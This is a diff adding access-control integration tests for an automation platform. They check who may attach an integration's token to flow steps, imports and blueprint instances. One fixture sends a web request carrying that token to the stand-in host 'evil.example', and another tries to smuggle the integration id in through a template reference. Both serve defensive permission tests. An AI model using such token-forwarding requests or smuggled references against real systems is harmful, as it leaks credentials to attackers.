@@ -158,6 +158,46 @@ describe('an integration link from a token', () => {
   });
 });
 
+describe('an integration link in a flow', () => {
+  it('is used by who made it, admins, and who was granted that; others do not write where its token goes', async () => {
+    const editor = await person('flow_editor', admin.scope.companyId);
+    const link = await make(manager);
+    const flow = async (who: Person) => {
+      const { id } = (await who.send('POST', '/api/v1/flows', { body: { name: 'f' } })).body;
+      return `/api/v1/flows/${textOf(id)}`;
+    };
+    const layer = (ref: string, integrationId: string) => ({
+      ref,
+      appId: 'web-request',
+      args: { url: 'https://evil.example/', auth: { integrationId } },
+    });
+    const write = async (who: Person, path: string, body: object) =>
+      (await who.send('POST', `${path}/layers`, { body })).status;
+    const [theirs, shared] = [await flow(editor), await flow(admin)];
+    expect(await write(editor, theirs, layer('a', link))).toBe(403);
+    expect(await write(editor, theirs, layer('a', '{{ $prev.args.link }}'))).toBe(403);
+    expect(await write(admin, shared, layer('a', link))).toBe(201);
+    const exported = JSON.stringify((await admin.send('GET', `${shared}/export`)).body);
+    const document = JSON.parse(exported.replace('[left out]', link)) as object;
+    expect((await editor.send('POST', '/api/v1/flows/import', { body: { document } })).status).toBe(403);
+    const rest = { ref: 'b', appId: 'text-template', args: { template: 'x' } };
+    expect(await write(editor, shared, rest)).toBe(403);
+    expect((await editor.send('PATCH', shared, { body: { name: 'renamed', isBlueprint: true } })).status).toBe(200);
+    const instance = { body: { name: 'i', blueprintVars: {} } };
+    expect((await editor.send('POST', `${shared}/instantiate`, instance)).status).toBe(403);
+    const grant = { resource_type: 'integration', resource_id: link, grant_type: 'user', grantee_id: editor.userId };
+    const give = (permissions: string[]) =>
+      manager.send('POST', '/api/v1/access/grant', { body: { ...grant, permissions } });
+    expect((await give(['read', 'edit'])).status).toBe(201);
+    expect(await write(editor, theirs, layer('a', link))).toBe(403);
+    expect((await give(['execute'])).status).toBe(200);
+    expect(await write(editor, theirs, layer('a', link))).toBe(201);
+    expect(await write(editor, shared, rest)).toBe(201);
+    expect((await editor.send('POST', '/api/v1/flows/import', { body: { document } })).status).toBe(201);
+    expect((await editor.send('POST', `${shared}/instantiate`, instance)).status).toBe(201);
+  });
+});
+
 describe('connecting an account', () => {
   it('makes one link, and renews that one when it is connected again', async () => {
     const provider = textOf((await operator.send('POST', PROVIDERS, { body: providerBody })).body.id);
@@ -182,7 +222,17 @@ describe('connecting an account', () => {
     const again = await links.find({ ProviderID: provider }).toArray();
     expect(again.map(({ _id }) => _id)).toEqual([first?._id]);
     expect(again[0]?.AccessToken).not.toBe(first?.AccessToken);
-    expect((await manager.send('POST', `${PATH}/${first?._id}/test`)).body).toMatchObject({ ok: true });
+    const test = async () => (await manager.send('POST', `${PATH}/${first?._id}/test`)).body;
+    expect(await test()).toMatchObject({ ok: true });
+    // a provider that another issuer took over is shown no token
+    const issuer = idp.issuer.replace('localhost', '127.0.0.1');
+    const moved = { issuer, client_secret: idp.clientSecret };
+    expect((await operator.send('PATCH', `${PROVIDERS}/${provider}`, { body: moved })).status).toBe(200);
+    expect(await test()).toMatchObject({ ok: false, detail: expect.stringContaining('another one now') as string });
+    await operator.send('PATCH', `${PROVIDERS}/${provider}`, { body: { ...moved, issuer: idp.issuer } });
+    // nor is a token by hand shown as the account's
+    const byHand = await manager.send('PATCH', `${PATH}/${first?._id}`, { body: { access_token: 'mine' } });
+    expect(byHand.body).toMatchObject({ ProviderUserID: null, ProviderUserEmail: null });
     // who may not make links any more when they come back makes none
     const started = await colleague.send('POST', `${PATH}/connect`, { body: { provider } });
     const path = `/api/v1/users/${colleague.userId}`;
